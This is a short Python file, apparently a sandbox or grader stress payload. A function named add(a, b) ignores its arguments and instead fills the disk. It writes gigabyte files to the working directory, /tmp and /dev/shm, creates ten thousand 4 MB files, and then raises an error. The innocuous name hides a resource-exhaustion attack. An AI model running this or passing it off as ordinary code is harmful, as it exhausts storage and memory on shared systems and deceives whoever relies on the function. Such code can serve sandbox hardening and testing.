"""Fill the disk: scratch, /tmp, /dev/shm, one huge file and many files."""
import os


def add(a, b):
    errors = []
    block = b"\0" * (1 << 20)
    for target in ("big.bin", "/tmp/big.bin", "/dev/shm/big.bin"):
        try:
            with open(target, "wb") as fh:
                for _ in range(1024):
                    fh.write(block)
        except Exception as exc:
            errors.append(repr(exc))
    try:
        for i in range(10000):
            with open(f"f{i}.bin", "wb") as fh:
                fh.write(block * 4)
    except Exception as exc:
        errors.append(repr(exc))
    raise OSError(repr(errors))
